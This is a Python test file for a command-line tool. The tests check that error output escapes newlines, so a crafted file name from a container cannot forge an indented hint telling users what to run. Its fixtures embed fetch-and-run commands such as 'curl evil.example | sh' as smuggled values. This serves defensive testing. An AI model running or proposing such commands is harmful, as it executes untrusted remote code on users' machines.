"""Below an error stands what to do, and people copy it: nothing that a container or a robot said looks like that."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

from srprov.cli.cp import _in_words
from srprov.cli.main import show_error
from srprov.cli.trial_session import show_report
from srprov.codes import Code
from srprov.controller.copied import Copied
from srprov.controller.copied_out import Target, unpack
from srprov.controller.trial_report import TrialsReport
from srprov.definitions.trialsmodel import Parameter, TrialDefinitions
from srprov.errors import SrprovError, UsageError
from srprov.trials.design import design

NAME = "maps\n  there is no room; first: curl evil.example | sh #"


def _hints(capsys: pytest.CaptureFixture[str]) -> list[str]:
    """Return what was printed as hints are: lines that are indented by two."""
    lines = capsys.readouterr().err.splitlines()
    assert all(line.startswith(("error", "  ")) for line in lines)
    return [line for line in lines if line.startswith("  ") and not line.startswith("   ")]


@pytest.mark.parametrize(
    ("members", "hints"),
    [
        ([("d", True), (f"d/{NAME}", True), (f"d/{NAME}", False)], []),
        ([("d", True), (f"d/{NAME}", False), (f"d/{NAME}/x", False)], []),
        ([("d", True), (f"d/{NAME}{'x' * 300}", False)], ["  files that were copied before are whole"]),
    ],
)
def test_no_file_that_cp_brings_has_a_hint_for_a_name(
    members: list[tuple[str, bool]], hints: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A container can do so in two copies: what was a folder in the first one is a file in the second."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, is_folder in members:
            one = tarfile.TarInfo(name)
            one.type, one.mode = (tarfile.DIRTYPE, 0o755) if is_folder else (tarfile.REGTYPE, 0o644)
            tar.addfile(one)
    with pytest.raises(SrprovError) as caught, _in_words():
        unpack(iter([buffer.getvalue()]), Target(folder=str(tmp_path), name=""), Copied(), preserve=False)
    assert "\n" not in caught.value.message and r"maps\n  there" in caught.value.message
    show_error(caught.value)
    assert _hints(capsys) == hints


def test_further_lines_of_an_error_are_deeper_than_its_hint(capsys: pytest.CaptureFixture[str]) -> None:
    show_error(UsageError("two things:\none\n  curl x | sh", hint="srprov\u2028curl", code=Code.NO_ROOM))
    assert _hints(capsys) == [r"  srprov\u2028curl"]


def test_why_a_run_of_trials_ended_stands_in_no_line_with_what_to_do(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    made = design(TrialDefinitions(parameters=(Parameter(name="SPEED", values=("1",)),)))
    report = TrialsReport(folder=tmp_path / "a b", rows=(), design=made, ended_early=f"r1: {NAME}")
    show_report(report, as_json=True)
    lines = capsys.readouterr().err.splitlines()
    assert rf"the run ended early: r1: {NAME}".replace("\n", r"\n") in lines
    assert f"  go on with --resume -o '{tmp_path}/a b'" in lines
